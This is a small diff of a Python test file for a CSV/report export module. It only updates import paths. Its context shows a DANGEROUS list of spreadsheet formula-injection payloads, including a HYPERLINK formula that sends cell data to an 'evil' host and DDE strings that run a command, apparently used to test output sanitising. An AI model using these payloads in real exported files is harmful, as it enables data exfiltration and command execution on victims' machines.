@@ -13,8 +13,8 @@ from zoneinfo import ZoneInfo
 
 import pytest
 
-from streams.audit import QueryResult, render_csv, render_table
-from streams.report_html import write_csv
+from streams.audit.tools import QueryResult, render_csv, render_table
+from streams.audit.report_html import write_csv
 
 DANGEROUS = ["=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
              "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
